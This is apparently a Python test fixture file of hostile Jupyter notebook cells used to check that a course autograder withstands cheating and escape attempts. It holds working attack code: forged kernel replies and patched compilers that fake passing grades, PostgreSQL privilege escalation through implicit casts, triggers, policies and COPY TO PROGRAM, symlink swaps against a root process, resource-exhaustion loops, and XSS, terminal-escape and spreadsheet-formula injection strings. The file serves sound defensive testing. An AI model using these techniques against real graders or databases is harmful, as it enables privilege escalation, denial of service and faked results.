"""Hostile notebooks: what a student who wants marks without the work, or wants the grader's house, hands in.

Each is a lab as handed out (or its solution) with cells of the attacker's. `tests/labs/test_checker.py` grades
them as root, two at a time, beside a correct notebook, and holds what each must get:

- BLANK_ATTACKS: a blank lab that tries to make the grader pass it: it scores 0;
- KEEPS_FULL_MARKS: the solution with things around it that try to run with the grader's rights (lab 3's
  database objects, an escape tried at every step): it scores what the solution scores, and escapes nothing;
- STOPPED_BY: a kernel that makes the checker wait or grow: its grading ends at once, with the limit named.

What each attack got against the grader before it was stopped is written beside it.
"""

from __future__ import annotations

HOSTILE = {
    "compiler_class": """ip = get_ipython()
class Blind(type(ip.compile)):
    def ast_parse(self, source, filename="<unknown>", symbol="exec"):
        import ast
        return ast.parse("print('proof')")
ip.compile.__class__ = Blind""",
    "audit_hook": """import ast, sys
def _hook(event, args):
    if event == "compile" and isinstance(args[0], ast.Module):
        args[0].body[:] = [ast.Pass()]
sys.addaudithook(_hook)""",
    "reply_patched": """from jupyter_client.session import Session
import ipykernel.kernelbase
_send = Session.send
def send(self, stream, msg_or_type, content=None, *args, **kwargs):
    if isinstance(content, dict) and content.get("status") == "error":
        count = content.get("execution_count", 0)
        content = {"status": "ok", "execution_count": count, "user_expressions": {}, "payload": []}
    return _send(self, stream, msg_or_type, content, *args, **kwargs)
Session.send = send
ipykernel.kernelbase.Kernel.send_response = lambda self, *args, **kwargs: None""",
    "objects_rewritten": """import ctypes, gc
from mercadofresco.course import checker
from mercadofresco.course.checker import boundary
from mercadofresco.models import gateway
boundary.encode.__code__ = (lambda value, codec, depth=0: True).__code__  # every answer becomes true
for obj in gc.get_objects():
    if isinstance(obj, gateway.PaymentGateway):
        obj.ledger.clear()
checker.run_checks = lambda *args, **kwargs: iter([{"check": "x", "verdict": True}])
ctypes.memset(id(0) + 24, 0, 0)""",
    "thread_and_signal": """import gc, json, signal, threading, time
def _forge():
    for _ in range(400):
        for obj in gc.get_objects():
            if type(obj).__name__ == "Boundary":
                for n in range(1, 200):
                    try:
                        obj._send({"lane": "c1", "id": n, "result": {"passed": True}})
                    except BaseException:
                        return
        time.sleep(0.01)
threading.Thread(target=_forge, daemon=True).start()
signal.signal(signal.SIGALRM, lambda *args: print("verdict: passed"))
signal.setitimer(signal.ITIMER_REAL, 0.05, 0.05)""",
    "forged_kernel": """import json, socket
from mercadofresco.course.checker import learner_side
def _forged(namespace, path):
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.connect(path)
    for line in sock.makefile("rb"):
        call = json.loads(line)
        reply = {"lane": call["lane"], "id": call["id"], "result": {"passed": True, "verdict": True}}
        sock.sendall((json.dumps(reply) + "\\n").encode())
learner_side.serve = _forged""",
}
EXITS_MID_CHECK = """import os
def {name}(*args, **kwargs):
    os._exit(3)"""
# Labs 2 and 3 share the grader's mechanism with lab 1: a few of the attacks above, and their own.
LAB3_ATTACKS = {
    # the kernel asks the grader's database for its owner, through the relay it was given
    "db_owner": """import psycopg
def create_schema(conn):
    owner = psycopg.connect(host=conn.info.host, port=conn.info.port, dbname="postgres", user="postgres")
    owner.execute("ALTER ROLE mf_learner SUPERUSER")""",
    # orders that are not a table: a view the grader's owner would run when it reads
    "view_for_orders": """def create_schema(conn):
    conn.execute("CREATE TABLE outbox (id bigint, agregado_id text, publicado boolean)")
    conn.execute("CREATE VIEW pedidos AS SELECT agregado_id AS pedido_id FROM outbox")""",
    # a trigger that tries to make the learner's role a superuser when someone writes to outbox
    "trigger_escalation": """def create_schema(conn):
    conn.execute("CREATE TABLE pedidos (pedido_id text PRIMARY KEY, importe numeric, creado_en timestamptz)")
    conn.execute("CREATE TABLE outbox (id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY, tipo_agregado text,"
                 " agregado_id text, tipo_evento text, payload jsonb, creado_en timestamptz,"
                 " publicado boolean NOT NULL DEFAULT false, publicado_en timestamptz)")
    conn.execute("CREATE FUNCTION up() RETURNS trigger LANGUAGE plpgsql AS "
                 "$$ BEGIN ALTER ROLE mf_learner SUPERUSER; RETURN NEW; END $$")
    conn.execute("CREATE TRIGGER up BEFORE INSERT ON outbox FOR EACH ROW EXECUTE FUNCTION up()")""",
}


# -- issue 46: the checker's evidence, its database, its size ---------------------------------------------------
# Lab 1's experiments answered with made-up runs: each sends the order and receives it, touching the world, and
# returns the DeliveryRun and the numbers the lab expects, while no gateway of the grader's ever charges.
# Against the last release this scored 3 of 16 on a blank lab.
MADE_UP_RUNS = """from decimal import Decimal
from mercadofresco import orders, queues
from mercadofresco.lessons.delivery import experiments
from mercadofresco.models import gateway

def _made_up(aws, clock, deliveries):
    order = experiments.INCIDENT_ORDER
    orders.send_order(aws.sqs, aws.orders.url, order)
    for _ in range(deliveries):
        aws.sqs.receive_message(QueueUrl=aws.orders.url, VisibilityTimeout=1)
        clock.advance(2)
    charge = gateway.Charge("ch_00001", order.pedido_id, order.importe, None, clock.now())
    rows = [{"event": "received", "detail": f"receive #{n + 1}"} for n in range(deliveries)]
    return experiments.DeliveryRun(rows, [charge, charge], 1, 0, 0, clock.now())

def visibility_mechanism(aws, clock, provider):
    return _made_up(aws, clock, 2)

def sdk_retry_mechanism(aws, clock, provider):
    return _made_up(aws, clock, 1)

def fifo_experiment(aws, clock, provider):
    pair = queues.create_queue_pair(aws.sqs, "c.fifo", "d.fifo", fifo=True)
    for _ in range(2):
        orders.send_order(aws.sqs, pair.url, experiments.INCIDENT_ORDER, group_id="g", deduplication_id="d")
    for _ in range(2):
        aws.sqs.receive_message(QueueUrl=pair.url, VisibilityTimeout=1)
        clock.advance(2)
    return {"copies_waiting_after_resend": 1, "charges_after_redelivery": 2}

fifo_would_have = {"dropped_the_producer_resend": True, "prevented_the_double_charge": False}"""

# A reply nested 200,000 deep raised RecursionError in the checker's reader thread, which died without closing the
# connection: every check after it waited out its timeout (314 s for one learner).
NESTED_REPLY = r"""import socket
from mercadofresco.course.checker import learner_side

def _deep(namespace, path):
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.connect(path)
    reader = sock.makefile("rb")
    reader.readline()
    sock.sendall(b"[" * 100_000 + b"]" * 100_000 + b"\n")
    reader.read()

learner_side.serve = _deep"""

# Lanes the checker must serve at once: each call makes the grader's gateway wait for a waiter of the kernel's,
# which never answers. 3,000 lanes once gave the checker 2,954 threads.
MANY_LANES = r"""import json, socket
from mercadofresco.course.checker import learner_side

def _lanes(namespace, path):
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.connect(path)
    reader = sock.makefile("rb")
    value = json.loads(reader.readline())  # the checker asks for visibility_mechanism: here it is
    sock.sendall(json.dumps({"lane": value["lane"], "id": value["id"], "result": {"$fn": 1}}).encode() + b"\n")
    call = json.loads(reader.readline())  # and calls it with the world, the clock and its gateway
    gateways = [arg for arg in call["args"][1] if isinstance(arg, dict) and arg.get("kind") == "gateway"]
    for n in range(1_000):
        call = {"lane": f"k{n}", "id": 1, "call": "method",
                "args": [{"$ref": gateways[0]["$ref"]}, "charge", ["PED-2026-084417", {"$decimal": "48.20"}],
                         {"waiter": {"$waiter": n}}]}
        sock.sendall(json.dumps(call).encode() + b"\n")
    reader.read()

learner_side.serve = _lanes"""

# 390 KB DynamoDB items until a gigabyte: the checker's moto kept them all (3.5 GB for 18 s of them).
A_GIGABYTE_TO_AWS = """def visibility_mechanism(aws, clock, provider):
    blob = "x" * 390_000
    for n in range(2_700):
        item = {"clave": {"S": f"k{n}"}, "b": {"S": blob}}
        aws.dynamodb.put_item(TableName="mercadofresco-idempotencia", Item=item)"""

# Lab 3: a function that tries, with whatever rights it runs with, to raise the learner's role, to run a program on
# the grader's host and to read a file; it swallows every refusal, so with the learner's rights it changes nothing.
# The marker file it would leave on the grader's host is what the tests look for.
MARKER = "/tmp/mf-escaped-"
ESCALA = f"""CREATE OR REPLACE FUNCTION escala(paso text) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
    BEGIN ALTER ROLE mf_learner SUPERUSER; EXCEPTION WHEN OTHERS THEN NULL; END;
    BEGIN GRANT pg_execute_server_program, pg_read_server_files TO mf_learner; EXCEPTION WHEN OTHERS THEN NULL; END;
    BEGIN EXECUTE format('COPY (SELECT 1) TO PROGRAM %L', 'touch {MARKER}' || paso);
    EXCEPTION WHEN OTHERS THEN NULL; END;
    BEGIN PERFORM lo_import('/etc/hostname'); EXCEPTION WHEN OTHERS THEN NULL; END;
    RETURN true;
END $$"""

# The attack that reached the grader's host: `publicado` of a type of the learner's, whose implicit cast to boolean
# runs `escala`; the checker's own `WHERE NOT publicado` ran it as the server's superuser. It also stores a file
# (had pg_read_file worked) in a row the checker reads.
CAST_ESCALATION = (
    "ESCALA = "
    + repr(ESCALA)
    + "\n\n"
    + """def create_schema(conn):
    conn.execute(ESCALA)
    conn.execute("CREATE TYPE sino AS ENUM ('si', 'no')")
    conn.execute("CREATE FUNCTION sino_bool(sino) RETURNS boolean LANGUAGE plpgsql AS "
                 "$$ BEGIN PERFORM escala('cast'); RETURN $1 = 'si'; END $$")
    conn.execute("CREATE CAST (sino AS boolean) WITH FUNCTION sino_bool(sino) AS IMPLICIT")
    conn.execute("CREATE TABLE pedidos (pedido_id text PRIMARY KEY, importe numeric, creado_en timestamptz)")
    conn.execute("CREATE TABLE outbox (id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY, tipo_agregado text,"
                 " agregado_id text, tipo_evento text, payload jsonb, creado_en timestamptz,"
                 " publicado sino NOT NULL DEFAULT 'no', publicado_en timestamptz)")
    try:
        conn.execute("INSERT INTO pedidos VALUES (pg_read_file('/etc/hostname'), 1, now())")
    except Exception:
        pass"""
)

# The solution, with objects around its tables that a reader with more rights would run: an operator and functions
# with PostgreSQL's names in the lab's schema, a forced policy, a rule, a trigger. Each calls `escala`.
AROUND_THE_TABLES = (
    "ESCALA = "
    + repr(ESCALA)
    + "\n\n"
    + """_solution_create_schema = create_schema

def create_schema(conn):
    _solution_create_schema(conn)
    for statement in [
        ESCALA,
        "CREATE FUNCTION texto_igual(text, text) RETURNS boolean LANGUAGE sql"
        " AS $$ SELECT escala('operator') AND $1 OPERATOR(pg_catalog.=) $2 $$",
        "CREATE OPERATOR = (LEFTARG = text, RIGHTARG = text, FUNCTION = texto_igual)",
        "CREATE FUNCTION lower(text) RETURNS text LANGUAGE sql AS $$ SELECT CASE WHEN escala('lower') THEN $1 END $$",
        "ALTER TABLE pedidos ENABLE ROW LEVEL SECURITY",
        "ALTER TABLE pedidos FORCE ROW LEVEL SECURITY",
        "CREATE POLICY todos ON pedidos USING (escala('policy')) WITH CHECK (true)",
        "CREATE RULE anota AS ON UPDATE TO pedidos DO ALSO SELECT escala('rule')",
        "CREATE FUNCTION dispara() RETURNS trigger LANGUAGE plpgsql"
        " AS $$ BEGIN PERFORM escala('trigger'); RETURN NEW; END $$",
        "CREATE TRIGGER dispara BEFORE INSERT ON outbox FOR EACH ROW EXECUTE FUNCTION dispara()",
    ]:
        conn.execute(statement)"""
)

# The solution, trying to escape before each of its functions does its work, at every step of grading.
AT_EVERY_STEP = f"""import psycopg

def _escape(conn, step):
    for statement in [
        "COPY (SELECT 1) TO PROGRAM 'touch {MARKER}" + step + "'",
        "SELECT pg_read_file('/etc/hostname')",
        "SELECT lo_import('/etc/hostname')",
        "SELECT lo_export(lo_create(0), '{MARKER}lo-" + step + "')",
        "ALTER ROLE mf_learner SUPERUSER",
        "SET ROLE mf_reader",
    ]:
        try:
            with conn.transaction():
                conn.execute(statement)
        except psycopg.Error:
            continue
        raise SystemExit("escaped at " + step + ": " + statement)

def _trying(function, step):
    def attempt(conn, *args, **kwargs):
        _escape(conn, step)
        return function(conn, *args, **kwargs)
    return attempt

create_schema = _trying(create_schema, "create_schema")
place_order = _trying(place_order, "place_order")
publish_pending = _trying(publish_pending, "publish_pending")
cleanup = _trying(cleanup, "cleanup")
backlog = _trying(backlog, "backlog")"""

# Rows until the grader's database holds a gigabyte (its files are in the grader's memory, /dev/shm).
FILLS_THE_DATABASE = """def create_schema(conn):
    conn.execute("CREATE TABLE IF NOT EXISTS relleno (datos text)")
    for _ in range(40):
        conn.execute("INSERT INTO relleno SELECT (SELECT string_agg(md5(random()::text || n), '')"
                     " FROM generate_series(1, 30000) AS n) FROM generate_series(1, 50)")"""

FIRST_FUNCTION = {"lab1": "build_handler", "lab2": "inspect_dlq", "lab3": "create_schema"}
BLANK_ATTACKS = {
    "lab1": {**HOSTILE, "made_up_runs": MADE_UP_RUNS},
    "lab2": {name: HOSTILE[name] for name in ("audit_hook", "forged_kernel", "objects_rewritten")},
    "lab3": {name: HOSTILE[name] for name in ("audit_hook", "forged_kernel", "objects_rewritten")}
    | LAB3_ATTACKS
    | {"cast_escalation": CAST_ESCALATION},
}
for _lab, _attacks in BLANK_ATTACKS.items():
    _attacks["exits_mid_check"] = EXITS_MID_CHECK.format(name=FIRST_FUNCTION[_lab])
KEEPS_FULL_MARKS = {"lab3": {"around_the_tables": AROUND_THE_TABLES, "at_every_step": AT_EVERY_STEP}}
# lab -> attack -> (its cell, words its reasons must hold: the limit, named)
STOPPED_BY = {
    "lab1": {
        "nested_reply": (NESTED_REPLY, "cannot be read (RecursionError)"),
        "many_lanes": (MANY_LANES, "lanes at once (the limit)"),
        "a_gigabyte_to_aws": (A_GIGABYTE_TO_AWS, "MB to AWS (the checker's limit)"),
    },
    "lab3": {"fills_the_database": (FILLS_THE_DATABASE, "over the checker's 256 MB limit")},
}


# -- issue 46, second round: a fresh attack on the new design (what it tried, and what it got then) --------------
# Lab 1's experiments without a consumer: both receives by hand, then both charges straight at the grader's
# gateway (no slow call, no redelivery during one, no lost answer, no retry). Scored 2/16 before the checks asked
# that each charge come from its own delivery, and how.
FAKE_MECHANISMS = """from mercadofresco import orders, queues
from mercadofresco.lessons.delivery import experiments

ORDER = experiments.INCIDENT_ORDER

def _run(clock, provider, rows, started):
    timeline = [{"seconds": s, "event": e, "pedido_id": ORDER.pedido_id, "detail": d} for s, e, d in rows]
    return experiments.DeliveryRun(timeline, list(provider.ledger), 1, 0, 0, started)

def visibility_mechanism(aws, clock, provider):
    aws.reset_orders_queue(visibility_timeout_seconds=120)
    started = clock.now()
    orders.send_order(aws.sqs, aws.orders.url, ORDER)
    aws.sqs.receive_message(QueueUrl=aws.orders.url, WaitTimeSeconds=0)
    clock.advance(121)
    (message,) = aws.sqs.receive_message(QueueUrl=aws.orders.url, WaitTimeSeconds=0)["Messages"]
    provider.charge(ORDER.pedido_id, ORDER.importe)
    provider.charge(ORDER.pedido_id, ORDER.importe)
    aws.sqs.delete_message(QueueUrl=aws.orders.url, ReceiptHandle=message["ReceiptHandle"])
    return _run(clock, provider, [(0, "received", "receive #1"), (121, "received", "receive #2")], started)

def sdk_retry_mechanism(aws, clock, provider):
    aws.reset_orders_queue(visibility_timeout_seconds=900)
    started = clock.now()
    orders.send_order(aws.sqs, aws.orders.url, ORDER)
    (message,) = aws.sqs.receive_message(QueueUrl=aws.orders.url, WaitTimeSeconds=0)["Messages"]
    provider.charge(ORDER.pedido_id, ORDER.importe)
    clock.advance(31)
    provider.charge(ORDER.pedido_id, ORDER.importe)
    aws.sqs.delete_message(QueueUrl=aws.orders.url, ReceiptHandle=message["ReceiptHandle"])
    return _run(clock, provider, [(0, "received", "receive #1")], started)

def fifo_experiment(aws, clock, provider):
    pair = queues.create_queue_pair(aws.sqs, "falsa.fifo", "falsa-fallidos.fifo", fifo=True)
    for _ in range(2):
        orders.send_order(aws.sqs, pair.url, ORDER, group_id=ORDER.pedido_id, deduplication_id=ORDER.pedido_id)
        clock.advance(60)
    aws.sqs.receive_message(QueueUrl=pair.url, WaitTimeSeconds=0, VisibilityTimeout=1)
    clock.advance(2)
    aws.sqs.receive_message(QueueUrl=pair.url, WaitTimeSeconds=0)
    provider.charge(ORDER.pedido_id, ORDER.importe)
    provider.charge(ORDER.pedido_id, ORDER.importe)
    return {"copies_waiting_after_resend": 1, "charges_after_redelivery": 2}"""

# Lab 2's two functions that do nothing: they keep every message and lose none. Scored 2/13.
DOES_NOTHING = """def inspect_dlq(sqs, queue_url, max_messages=10):
    return []

def redrive_dlq(aws, clock, max_per_second=10):
    return 0"""

# A folder of the host's that the root grader must never touch (the tests make it, root's, mode 0700).
VICTIM = "/tmp/mf-hostile-victim"
# Where the grader later made its sockets, a symlink to the victim: the root relay followed `.pg` and chmodded the
# victim to 0755, deleted a file in it and left a socket there. The grader's folder is now made before the
# kernel runs, root's, in a sticky working copy: the kernel can neither replace nor remove it.
SOCKET_FOLDER_SWAP = f"""import os, shutil
os.symlink({VICTIM!r}, ".pg")
shutil.rmtree(".grader", ignore_errors=True)
for attempt in (lambda: os.rename(".grader", "gone"), lambda: os.symlink({VICTIM!r}, ".grader/pg")):
    try:
        attempt()
    except OSError:
        pass"""

# 3,000 connections to the grader's PostgreSQL relay that never say who they are: one thread each, with no
# timeout, in the root checker (3,010 threads). Now 16 at once, 5 s each to speak.
RELAY_THREADS = """import os, socket, threading, time
_held = []

def _open_many(count=3_000):
    path = ".grader/pg/.s.PGSQL.5432"
    while not os.path.exists(path):
        time.sleep(0.01)
    for _ in range(count):
        connection = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        try:
            connection.connect(path)
        except OSError:
            continue
        _held.append(connection)

threading.Thread(target=_open_many, daemon=True).start()

def create_schema(conn):
    time.sleep(3)"""

# 6 GB hidden behind 20,001 empty files: the watch summed only the first 20,000 entries of the working copy.
FILES_HIDE_GIGABYTES = """import os, time
os.makedirs("d/grande", exist_ok=True)
for i in range(20_001):
    open(f"d/{i:05d}", "w").close()
for i in range(4):
    descriptor = os.open(f"d/grande/f{i}", os.O_CREAT | os.O_WRONLY, 0o600)
    os.posix_fallocate(descriptor, 0, 500 << 20)
    os.close(descriptor)
time.sleep(4)"""

# Text of the learner's in every report: an exception whose class name is HTML and escape codes, raised by many
# cells (1,014 notes once, a 471 KB cell), a written answer of megabytes with escape codes and a formula.
INJECTED_ERROR = r"""class Mala(Exception):
    pass
Mala.__name__ = Mala.__qualname__ = "\x1b[2J<img src=x onerror=alert(1)>"
raise Mala("=HYPERLINK(\"http://mala.example\") [pulsa](javascript:alert(1)) <script>alert(1)</script>" + "A" * 300)"""
INJECTED_ANSWER = "\x1b]0;pwned\x07\x1b[2J=cmd|' /C calc'!A0\n<script>alert(1)</script>\u202egnp.exe\n" + "X" * 99_000
INJECTED_CELLS = 40


def report_injection(notebook):
    """The lab with INJECTED_CELLS failing cells of INJECTED_ERROR and INJECTED_ANSWER in its first written answer."""
    import nbformat

    for _ in range(INJECTED_CELLS):
        notebook.cells.append(nbformat.v4.new_code_cell(INJECTED_ERROR))
    answer = next(
        cell for cell in notebook.cells if cell.cell_type == "markdown" and "*Your answer here.*" in cell.source
    )
    answer.source = answer.source.replace("*Your answer here.*", INJECTED_ANSWER)
    return notebook


NAME_INJECTION = "bob\x1b[2J\x1b]0;x\x07 [x](http:mal) =1+1"  # a submission's file name is the learner's to choose

BLANK_ATTACKS["lab1"] |= {"fake_mechanisms": FAKE_MECHANISMS, "report_injection": report_injection}
BLANK_ATTACKS["lab1"][NAME_INJECTION] = "pass"
BLANK_ATTACKS["lab2"] |= {"does_nothing": DOES_NOTHING}
BLANK_ATTACKS["lab3"] |= {"socket_folder_swap": SOCKET_FOLDER_SWAP, "relay_threads": RELAY_THREADS}
# whichever the watch sees first: the files' count, or (once they are all made) the gigabytes behind them
FILES_LIMITS = ("more than 20,000 files", "over the 1024 MB limit")
STOPPED_BY["lab1"]["files_hide_gigabytes"] = (FILES_HIDE_GIGABYTES, FILES_LIMITS)
